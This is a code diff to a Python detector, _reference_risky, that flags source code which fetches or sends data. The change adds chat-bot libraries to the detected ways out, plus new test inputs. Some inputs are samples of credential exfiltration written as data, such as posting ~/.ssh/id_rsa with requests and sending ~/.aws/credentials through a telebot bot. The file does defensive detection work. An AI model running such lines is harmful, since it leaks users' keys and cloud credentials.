@@ -245,10 +245,11 @@ def _reference_risky(source: str) -> bool:
             at = source.find(call, at + 1)
         return False
 
+    ways_out = (*python._FETCH_WORDS, *python._CHAT_WORDS)
     return (
         any(w in source for w in RISKY_WORDS)
         or any(bare(call) for call in python.RISKY_CALLS)
-        or (any(w in source for w in python._FETCH_WORDS) and python._runs_or_sends(source))
+        or (any(w in source for w in ways_out) and python._runs_or_sends(source))
     )
 
 
@@ -264,6 +265,8 @@ def _reference_risky(source: str) -> bool:
         "import requests\nrequests.get(u)\n",
         "r = requests.post(u, files=open(os.path.expanduser('~/.ssh/id_rsa')))\n",
         "u = urlopen(x)\nhttp.client.HTTPConnection('h')\n",
+        "import telebot\nbot.send_document(c, open(os.path.expanduser('~/.aws/credentials')))\n",
+        "import telebot\nbot.send_message(c, 'hello')\n",
         "text = 'b64decode'\n",
         "é = 1\nexec(x)\n",
         "",
